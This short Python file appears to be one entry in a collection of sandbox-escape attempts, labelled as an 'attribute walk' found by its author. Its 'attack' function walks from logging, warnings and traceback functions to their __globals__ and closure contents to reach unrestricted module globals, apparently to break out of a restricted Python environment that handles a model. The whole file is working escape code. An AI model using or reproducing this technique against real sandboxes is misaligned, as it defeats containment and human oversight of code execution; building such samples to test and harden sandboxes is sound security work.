"""Class: attribute walk. Source: own find. Escape: a logger's function leads to its globals."""

import logging
import traceback
import warnings


def attack(model, tokenizer, address):
    for each in (logging.info, warnings.warn, traceback.format_exc, logging.getLogger().info):
        try:
            return each.__globals__, each.__closure__[0].cell_contents
        except Exception:
            pass
    return logging.getLogger("x").info.__func__.__globals__
